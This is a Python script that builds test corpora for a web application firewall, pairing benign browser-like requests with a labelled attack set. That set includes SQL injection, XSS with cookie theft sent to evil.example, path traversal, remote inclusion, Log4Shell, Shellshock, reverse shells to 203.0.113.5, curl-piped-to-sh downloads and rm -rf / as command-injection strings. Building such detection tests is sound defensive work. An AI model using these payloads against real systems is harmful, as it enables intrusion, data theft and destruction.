# ruff: noqa: E501  (payload and header data lines)
"""Build the WAF quality corpora: ``benign.jsonl`` and ``attack.jsonl`` (run from the repo root:
``python tests/waf/corpus/build.py``; the outputs are committed, this script documents them).

Each line is one request: ``{"method", "target", "headers": [[name, value]...], "body",
"class", "note"}``. Requests get browser-like headers unless they say otherwise. Payloads are
written from knowledge of the attack classes (textbook SQLi/XSS/traversal/RCE forms, public
CVE probe paths); benign traffic mimics browsers, forms, JSON APIs and search boxes, with the
tricky cases a WAF meets (SQL words in prose, apostrophes, code in CMS posts, encoded and
non-English text).
"""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote, quote_plus

HERE = Path(__file__).parent
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
FF = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
IOS = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Version/17.1 Mobile/15E148 Safari/604.1"
BROWSER = [
    ["host", "www.example.com"],
    ["user-agent", UA],
    ["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"],
    ["accept-language", "en-US,en;q=0.9,de;q=0.8"],
    ["accept-encoding", "gzip, deflate, br"],
    ["cookie", "session=9f8e7d6c5b4a; theme=dark; _ga=GA1.2.1234567890.1700000000"],
    ["referer", "https://www.example.com/"],
    ["sec-fetch-mode", "navigate"],
]


def req(
    method: str,
    target: str,
    *,
    body: str = "",
    ctype: str = "",
    headers=None,
    cls: str = "",
    note: str = "",
) -> dict:
    h = [list(x) for x in (headers if headers is not None else BROWSER)]
    if ctype:
        h.append(["content-type", ctype])
    return {
        "method": method,
        "target": target,
        "headers": h,
        "body": body,
        "class": cls,
        "note": note,
    }


def q(s: str) -> str:
    return quote_plus(s, safe="")


def benign() -> list[dict]:
    out: list[dict] = []
    pages = [
        "/",
        "/index.html",
        "/about",
        "/about/team",
        "/blog",
        "/blog/2024/05/hello-world",
        "/blog/2023/11/why-we-moved-to-postgres",
        "/products",
        "/products/42",
        "/products/red-shoes-size-10",
        "/cart",
        "/checkout",
        "/account/settings",
        "/help/faq",
        "/docs/getting-started",
        "/docs/api/v2/authentication",
        "/static/css/site.4f3a2b.css",
        "/static/js/app.bundle.min.js",
        "/images/hero@2x.png",
        "/fonts/inter-var.woff2",
        "/favicon.ico",
        "/robots.txt",
        "/sitemap.xml",
        "/.well-known/security.txt",
        "/.well-known/acme-challenge/Xy7_abc-123",
        "/feeds/rss.xml",
        "/careers/senior-engineer-berlin",
        "/legal/privacy-policy",
        "/wp-content/uploads/2024/01/photo-1.jpg",
        "/wp-admin/admin-ajax.php",
        "/wp-login.php",
        "/user/john.doe/profile",
        "/en-us/store/p/item-12",
        "/de/ueber-uns",
        "/fr/%C3%A0-propos",
        "/ja/%E6%A6%82%E8%A6%81",
        "/files/report%202024%20final.pdf",
        "/downloads/setup-v1.2.3.exe",
        "/api/v1/users/123",
        "/api/v1/orders?status=open&page=2",
        "/graphql",
        "/healthz",
        "/search",
        "/tags/c%2B%2B",
        "/tags/c%23",
        "/wiki/Union_(set_theory)",
        "/wiki/SELECT_(SQL)",
        "/wiki/Drop_(unit)",
        "/wiki/Cat_(Unix)",
        "/wiki/Ping_(networking_utility)",
        "/news/2024/who-said-what-and-why",
        "/recipes/mac-and-cheese",
        "/music/rock-n-roll",
        "/app/dashboard#/reports",
        "/static/app.js?v=1.2.3",
        "/manual/bash-scripting-basics",
        "/blog/tags/sql",
        "/blog/etc/archive",
    ]
    for p in pages:
        out.append(req("GET", p, note="page"))
    searches = [
        "select",
        "union",
        "select all",
        "union station",
        "credit union near me",
        "select comfort mattress",
        "drop shipping business",
        "drop table lamp",
        "how to drop a course",
        "where to eat tonight",
        "delete my account",
        "update windows 11",
        "insert coin",
        "order by price",
        "group by color",
        "and or not logic",
        "cats and dogs",
        "black or white",
        "rock 'n' roll",
        "O'Reilly books",
        "Tom's diner",
        "it's 5 o'clock somewhere",
        "don't stop believin'",
        '"exact phrase" search',
        "c++ templates",
        "c# async await",
        "f(x) = x^2",
        "1+1=2",
        "50% off",
        "price < 100",
        "a > b",
        "user@example.com",
        "what is 2*3",
        "shell script tutorial",
        "cat food",
        "ping pong table",
        "curl hair products",
        "sleep well tips",
        "echo dot",
        "bash party ideas",
        "script writing course",
        "javascript tutorial",
        "javascript: the good parts",
        "alert dialog design",
        "on load event",
        "iframe vs embed",
        "svg icons",
        "<3",
        "i <3 pizza",
        "select * from hearts",
        "sql injection prevention",
        "xss protection header",
        "path to success",
        "../ meaning",
        "etc etc",
        "passwd reset",
        "windows system32 error",
        "boot camp",
        "null pointer exception",
        "1 or 2 tickets",
        "true or false quiz",
        "sleep(8 hours) benefits",
        "benchmark cpu",
        "information about schema markup",
        "char table",
        "concat strings python",
        "Zürich Hauptbahnhof",
        "München öffnungszeiten",
        "café crème",
        "日本語 検索",
        "北京 天气",
        "Москва погода",
        "القاهرة",
        "עברית",
        "ελληνικά",
        "हिन्दी समाचार",
        "emoji 🎉 party",
        "semi;colon",
        "pipe | symbol",
        "ampersand & co",
        "back`tick",
        "dollar $5",
        "hash #tag",
        "50/50 chance",
        "AT&T support",
        "Q&A session",
        "x=1&y=2",
        "100% cotton",
        "[brackets] and {braces}",
        "<b>bold</b> text",
        "O'Brien & Sons",
        "Let's go! (now)",
    ]
    for s in searches:
        out.append(req("GET", "/search?q=" + q(s), note="search"))
    qs = [
        "/products?sort=price&order=desc&page=3",
        "/products?category=shoes&size=10&color=red",
        "/list?filter=price%3E10&filter=price%3C50",
        "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
        "/login?next=%2Faccount%2Fsettings",
        "/login?redirect=https%3A%2F%2Fwww.example.com%2Fcart",
        "/go?url=https%3A%2F%2Fdocs.python.org%2F3%2Flibrary%2Fjson.html",
        "/share?text=Check%20this%20out%21&url=https%3A%2F%2Fexample.com%2Fp%2F1",
        "/api/v1/items?ids=1,2,3&fields=name,price",
        "/calendar?from=2024-01-01&to=2024-01-31&tz=Europe%2FBerlin",
        "/map?lat=52.52&lng=13.405&zoom=12",
        "/img?w=640&h=480&fit=crop&fm=webp",
        "/callback?code=4%2F0AX4XfWh&state=abc123&scope=email+profile",
        "/search?q=%2527quoted%2527",
        "/search?q=100%25",
        "/s?k=laptop&ref=nb_sb_noss&crid=2M096C61O4MLT",
        "/watch?v=dQw4w9WgXcQ&t=42s",
        "/report?format=csv&columns=id%2Cname%2Cemail",
        "/api/search?q=title%3A%22hello+world%22+AND+year%3A2024",
        "/translate?text=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82&to=en",
        "/file?name=report.pdf",
        "/download?file=invoice-2024-03.pdf",
        "/view?page=about",
        "/view?template=default",
        "/index.php?option=com_content&view=article&id=42",
        "/index.php?route=product/category&path=20_27",
        "/?p=123",
        "/?s=union+jack+flag",
        "/?s=select+committee",
        "/forum/viewtopic.php?t=1234&start=50",
        "/search?q=wget+vs+curl",
        "/search?q=ls+command+linux",
        "/search?q=cat+%2Fetc%2Fhosts+meaning",
    ]
    for t in qs:
        out.append(req("GET", t, note="query"))
    forms = [
        "username=alice&password=correct%20horse%20battery%20staple&remember=on",
        "email=bob%40example.com&message=Hi%2C+I%27m+interested+in+your+product%3B+please+call+me+at+555-1234.+It%27s+urgent%21",
        "name=O%27Connor&company=Smith+%26+Sons&comment=Great+service+--+will+come+again%21",
        "q=select&category=all",
        "title=Union+meeting+notes&body=We+will+select+a+new+chair+and+drop+the+old+agenda.",
        "address=123+Main+St.%2C+Apt+%234&city=Springfield&zip=12345",
        "feedback=The+%22delete%22+button+doesn%27t+work+on+Safari+%3A%28",
        "bio=I+love+cats%2C+dogs+%26+rock+%27n%27+roll.+Email%3A+me%40example.com",
        "amount=19.99&currency=EUR&note=Rent+for+May%2FJune",
        "search=%E6%97%A5%E6%9C%AC%E8%AA%9E&lang=ja",
        "comment=Use+%3Cb%3Ebold%3C%2Fb%3E+for+emphasis+and+%3Ci%3Eitalics%3C%2Fi%3E.",
        "comment=If+x+%3C+5+and+y+%3E+3+then+print%28x%29",
        "tags=sql%2Cpostgres%2Cperformance&visibility=public",
    ]
    for f in forms:
        out.append(
            req("POST", "/contact", body=f, ctype="application/x-www-form-urlencoded", note="form")
        )
    cms = [
        "<p>Today we look at joins.</p><pre><code>SELECT title, author FROM posts ORDER BY created_at DESC LIMIT 10;</code></pre><p>Simple!</p>",
        "<h2>Python tip</h2><pre><code>def greet(name):\n    return f\"Hello, {name}!\"\n\nprint(greet('world'))</code></pre>",
        "<p>In JavaScript:</p><pre><code>const doubled = items.map(x =&gt; x * 2);\nconsole.log(doubled.length);</code></pre>",
        "<p>Find big files with <code>du -sh * | sort -h</code> and clean up.</p>",
        "<p>Our union negotiated a new contract. Members can select their plan by Friday.</p>",
        "<blockquote>It's not about the 'what', it's about the 'why'.</blockquote><p>-- Anonymous</p>",
        '<p>Config example:</p><pre><code>[server]\nport = 8080\nhost = "0.0.0.0"</code></pre>',
        "<p>Go:</p><pre><code>for i := 0; i &lt; 10; i++ {\n\tfmt.Println(i)\n}</code></pre>",
        '<p><a href="https://example.com/docs">Read the docs</a> and <img src="/images/diagram.png" alt="diagram"></p>',
        "<p>CSS:</p><pre><code>.btn { color: #333; background: linear-gradient(#fff, #eee); }</code></pre>",
        "<ul><li>Step 1: select your size</li><li>Step 2: update your address</li></ul>",
        "<p>Math: if a &lt; b and b &lt; c then a &lt; c.</p>",
        '<p>Rust:</p><pre><code>fn main() { let v: Vec&lt;i32&gt; = (1..=3).collect(); println!("{:?}", v); }</code></pre>',
        "<p>Our office is in Zürich — the café on the corner serves crème brûlée.</p>",
    ]
    for html in cms:
        body = "title=" + q("New post") + "&content=" + q(html) + "&status=draft"
        out.append(
            req(
                "POST",
                "/admin/posts/new",
                body=body,
                ctype="application/x-www-form-urlencoded",
                note="cms",
            )
        )
    jsons = [
        {"username": "alice", "password": "s3cr3t!'\"", "remember": True},
        {"query": "select", "filters": {"union": "EU", "drop": False}, "page": 1},
        {"query": "{ user(id: 42) { name email posts(first: 5) { title } } }"},
        {
            "operationName": "Search",
            "variables": {"q": "O'Reilly"},
            "query": "query Search($q: String!) { search(q: $q) { id } }",
        },
        {"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-7", "qty": 1}], "coupon": "SPRING-24"},
        {"comment": "I'd rate this 5/5 -- works with Windows and Linux; highly recommended!"},
        {"text": "日本語のテキスト", "lang": "ja"},
        {"text": "Привет, мир", "lang": "ru"},
        {
            "event": "page_view",
            "url": "https://www.example.com/products/42?ref=home",
            "ts": 1700000000,
        },
        {"html": "<p>Hello <strong>world</strong></p>"},
        {"note": "Meeting at 10; bring laptop & charger"},
        {"sql_hint": "Use SELECT ... FOR UPDATE to lock rows"},
        {"path": "docs/getting-started.md", "branch": "main"},
    ]
    for j in jsons:
        out.append(
            req(
                "POST",
                "/api/v1/data",
                body=json.dumps(j, ensure_ascii=False),
                ctype="application/json",
                note="json",
            )
        )
    for ua in (
        FF,
        IOS,
        "curl/8.4.0",
        "python-requests/2.31.0",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
        "okhttp/4.12.0",
    ):
        h = [x if x[0] != "user-agent" else ["user-agent", ua] for x in BROWSER]
        out.append(req("GET", "/api/v1/status", headers=h, note="client"))
    for m in ("HEAD", "OPTIONS", "PUT", "DELETE", "PATCH"):
        out.append(req(m, "/api/v1/items/7", note="method"))
    return out


SQLI = [
    "1' or '1'='1",
    "1' OR 1=1--",
    "' or ''='",
    "admin'--",
    "admin' #",
    "' OR 'a'='a",
    '1" or "1"="1',
    "1 OR 1=1",
    "1) or (1=1",
    "1' and 1=2 union select null,username,password from users--",
    "-1 UNION SELECT 1,2,3--",
    "1 union all select @@version,null",
    "1' UNION/**/SELECT/**/password/**/FROM/**/users--",
    "1'/**/or/**/1=1#",
    "1%27%20or%20%271%27%3D%271",
    "x' AND SLEEP(5)--",
    "1 AND SLEEP(5)",
    "1' AND BENCHMARK(5000000,MD5(1))--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1; DROP TABLE users--",
    "1'; DROP TABLE users; --",
    "'; exec master..xp_cmdshell 'dir'--",
    "1 AND extractvalue(1,concat(0x7e,(select version())))",
    "1' and updatexml(1,concat(0x7e,user()),1)--",
    "1 and (select count(*) from information_schema.tables)>0",
    "' union select table_name from information_schema.tables--",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "1' ORDER BY 3--",
    "1 order by 10#",
    "' having 1=1--",
    "1' GROUP BY columnnames having 1=1 --",
    "' OR 1=1 LIMIT 1 -- -",
    "1' or pg_sleep(5)--",
    "') or ('1'='1",
    "admin') --",
    "1' || '1'='1",
    "1' && 1=1--",
    "' or true--",
    "1 or true",
    "'; insert into users values('hacker','pw')--",
    "1'; update users set role='admin' where id=1--",
    "1' into outfile '/var/www/shell.php'--",
    "1 union select load_file('/etc/passwd')",
    "1+UNION+ALL+SELECT+NULL,NULL,NULL--",
    "%27%20UNION%20SELECT%20NULL--",
    "1%2527%2520OR%25201%253D1--",
    "1'/*!50000union*/ /*!50000select*/ 1,2--",
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "1' and 1=cast((select version()) as int)--",
    "' or username like '%admin%",
    "1' AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "' OR EXISTS(SELECT * FROM users)--",
    "1 and char(65)=char(65)",
    "1' and dbms_pipe.receive_message('a',5)=1--",
    "'||utl_http.request('http://x.example')||'",
    "1' AND 'x'='x",
    '1" AND "x"="x',
    "x' or 1=1 or 'x'='y",
]
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.domain)>",
    "<body onload=alert('xss')>",
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=prompt(1)>",
    "javascript:alert(1)",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert`1`",
    '<a href="javascript:alert(1)">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<marquee onstart=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '";alert(1);//',
    "';alert(String.fromCharCode(88,83,83))//",
    "</title><script>alert(1)</script>",
    '<object data="javascript:alert(1)">',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "data:text/html,<script>alert(1)</script>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<div style="width:expression(alert(1))">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=document.location='https://evil.example/?c='+document.cookie>",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "<svg onload=fetch('//evil.example/'+document.cookie)>",
    '"><svg/onload=confirm(1)>',
    "<x onclick=alert(1)>click",
    "vbscript:msgbox(1)",
    '<applet code="evil.class">',
    "<isindex action=javascript:alert(1) type=image>",
    '"-alert(1)-"',
    "'-confirm(1)-'",
    "</script><script>alert(1)</script>",
    "<img/src/onerror=alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<body background="javascript:alert(1)">',
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "/../../../../../../boot.ini",
    "../../../../../proc/self/environ",
    "..;/..;/etc/passwd",
    "../../config/database.yml",
    "../../../var/log/apache2/access.log",
    "images/../../../../etc/group",
    "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
    "....\\\\....\\\\windows\\system32\\drivers\\etc\\hosts",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "../.ssh/id_rsa",
    "../../../../home/user/.bash_history",
    "../WEB-INF/web.xml",
    "..%00/etc/passwd",
]
LFI = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "expect://id",
    "phar://uploads/avatar.jpg/shell",
    "zip://uploads/a.zip#shell.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "file:///etc/passwd",
    "/var/www/html/wp-config.php",
    "../../wp-config.php",
    "/etc/passwd%00",
    "php://filter/read=string.rot13/resource=config.php",
    "glob:///var/www/*",
    "/proc/1/maps",
    "/etc/ssh/sshd_config",
]
RFI = [
    "http://203.0.113.66/shell.txt?",
    "http://evil.example/c99.txt?",
    "https://evil.example/r57.php",
    "ftp://198.51.100.7/x.txt",
    "http://198.51.100.23:8080/payload",
    "http://evil.example/shell.txt%00",
    "https://evil.example/webshell.jpg",
    "http://evil.example/inc.txt#",
    "\\\\evil.example\\share\\shell.php",
    "http://192.0.2.10/",
    "https://user@192.0.2.55/a.php",
    "http://evil.example/backdoor.php?",
    "http://evil.example/wso.php",
    "http://10.0.0.5/cmd.txt",
    "ftp://evil.example/r00t.txt?",
]
RCE = [
    "; cat /etc/passwd",
    "| id",
    "|| whoami",
    "&& uname -a",
    "`id`",
    "$(whoami)",
    "; wget http://evil.example/x.sh -O /tmp/x.sh",
    "; curl http://evil.example/s | sh",
    "| nc -e /bin/sh 203.0.113.5 4444",
    "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "127.0.0.1; ls -la",
    "127.0.0.1 | cat /etc/passwd",
    "127.0.0.1 && ping -c 3 evil.example",
    "x;sleep 10;",
    "$(sleep 5)",
    "; rm -rf /",
    "| /bin/bash -c 'id'",
    "; python -c 'import os;os.system(\"id\")'",
    "; perl -e 'print 1'",
    "`curl evil.example`",
    "; echo $PATH",
    "%3Bcat%20%2Fetc%2Fpasswd",
    "%7C%20id",
    "x%0aid",
    "; /usr/bin/id",
    "&& cmd /c dir",
    "| powershell -enc SQBFAFgA",
    "; certutil -urlcache -split -f http://evil.example/x.exe",
    "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://evil.example/p')",
    "<?php system($_GET['c']); ?>",
    "<?php eval(base64_decode('ZWNobyAxOw==')); ?>",
    "system('cat /etc/passwd')",
    "passthru('id')",
    "shell_exec($_POST['x'])",
    "{{7*7}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}",
    "() { :; }; /bin/bash -c 'id'",
    "; chmod +x /tmp/x; /tmp/x",
    "| busybox wget http://evil.example/m",
]
SCANNER_PATHS = [
    "/.env",
    "/.env.production",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.hg/store",
    "/.DS_Store",
    "/.htaccess",
    "/.htpasswd",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.docker/config.json",
    "/.npmrc",
    "/.bash_history",
    "/api/.env",
    "/app/.git/index",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/wp-config.php.old",
    "/config.php.save",
    "/index.php.swp",
    "/settings.py.bak",
    "/database.yml.orig",
    "/config.bak",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd",
    "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd",
    "/_ignition/execute-solution",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
    "/wls-wsat/CoordinatorPortType",
    "/_async/AsyncResponseService",
    "/api/jsonws/invoke",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://evil.example/x",
    "/cgi-bin/luci/;stok=/locale",
    "/mgmt/tm/util/bash",
    "/vpns/portal/scripts/newbm.pl",
    "/owa/auth/x.js",
    "/actuator/gateway/routes/hacktest",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
    "/jenkins/script",
    "/struts2-showcase/index.action",
    "/xmlrpc.php",
    "/cgi-bin/test-cgi",
    "/phpinfo.php",
    "/phpmyadmin/index.php",
    "/server-status",
    "/manager/html",
    "/actuator/env",
    "/backup.sql",
    "/db.sql",
    "/www.zip",
    "/site.tar.gz",
]
SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0",
    "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
    "Netsparker",
    "ZmEu",
    "Morfeus Fucking Scanner",
    "Havij",
    "w3af.org",
    "commix/v3.8",
    "feroxbuster/2.10.1",
]


def attack() -> list[dict]:
    out: list[dict] = []
    points = ["id", "q", "page", "user", "file", "cmd", "search", "name"]

    def inject(cls: str, payloads: list[str], vectors: tuple[str, ...]) -> None:
        for n, p in enumerate(payloads):
            v = vectors[n % len(vectors)]
            name = points[n % len(points)]
            pre_encoded = (p.count("%") > 1 and cls in ("sqli", "xss", "traversal", "rce")) or (
                "+" in p and " " not in p and cls == "sqli"
            )
            enc = p if pre_encoded else quote(p, safe="")
            if v == "query":
                out.append(req("GET", f"/item?{name}={enc}&lang=en", cls=cls, note=p))
            elif v == "form":
                out.append(
                    req(
                        "POST",
                        "/submit",
                        body=f"{name}={enc}&ok=1",
                        ctype="application/x-www-form-urlencoded",
                        cls=cls,
                        note=p,
                    )
                )
            elif v == "json":
                out.append(
                    req(
                        "POST",
                        "/api/v1/item",
                        body=json.dumps({name: p, "n": 1}),
                        ctype="application/json",
                        cls=cls,
                        note=p,
                    )
                )
            elif v == "cookie":
                h = [
                    x if x[0] != "cookie" else ["cookie", f"session=abc; {name}={enc}"]
                    for x in BROWSER
                ]
                out.append(req("GET", "/account", headers=h, cls=cls, note=p))
            elif v == "path":
                out.append(req("GET", "/view/" + quote(p, safe=""), cls=cls, note=p))

    inject("sqli", SQLI, ("query", "query", "form", "json"))
    inject("sqli", SQLI[:20], ("query",))  # raw-ish: second encoding style below
    inject("xss", XSS, ("query", "query", "form", "json"))
    inject("xss", XSS[:10], ("path",))
    inject("traversal", TRAVERSAL, ("query", "query", "form"))
    inject("lfi", LFI, ("query", "query", "json"))
    inject("rfi", RFI, ("query", "form"))
    inject("rce", RCE, ("query", "query", "form", "json"))
    for p in SCANNER_PATHS:
        out.append(req("GET", p, cls="scanner", note=p))
    for ua in SCANNER_UAS:
        h = [x if x[0] != "user-agent" else ["user-agent", ua] for x in BROWSER]
        out.append(req("GET", "/", headers=h, cls="scanner", note=ua))
    for hname in ("user-agent", "referer", "x-api-version", "x-forwarded-host"):
        h = [x for x in BROWSER if x[0] != hname] + [[hname, "${jndi:ldap://evil.example/a}"]]
        out.append(req("GET", "/", headers=h, cls="rce", note="log4shell in " + hname))
    for hname in ("user-agent", "referer", "cookie"):
        h = [x for x in BROWSER if x[0] != hname] + [
            [hname, "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"]
        ]
        out.append(
            req("GET", "/cgi-bin/status", headers=h, cls="rce", note="shellshock in " + hname)
        )
    no_host = [x for x in BROWSER if x[0] != "host"]
    out.append(req("GET", "/", headers=no_host, cls="protocol", note="no host"))
    for m in ("TRACE", "TRACK", "DEBUG", "CONNECT"):
        out.append(req(m, "/", cls="protocol", note=m))
    out.append(
        req("GET", "/?" + "&".join(f"a{i}=1" for i in range(150)), cls="protocol", note="150 args")
    )
    no_ua = [x for x in BROWSER if x[0] != "user-agent"]
    out.append(req("GET", "/", headers=no_ua, cls="protocol", note="no user-agent"))
    out.append(req("PROPFIND", "/", cls="protocol", note="webdav method"))
    out.append(
        req(
            "GET",
            "/",
            headers=[["host", "203.0.113.1"], ["user-agent", UA]],
            cls="protocol",
            note="ip host",
        )
    )
    out.append(req("GET", "/index.php%00.txt", cls="protocol", note="encoded NUL"))
    return out


def write(name: str, rows: list[dict]) -> None:
    with open(HERE / name, "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    b, a = benign(), attack()
    write("benign.jsonl", b)
    write("attack.jsonl", a)
    print(f"benign {len(b)}, attack {len(a)}")
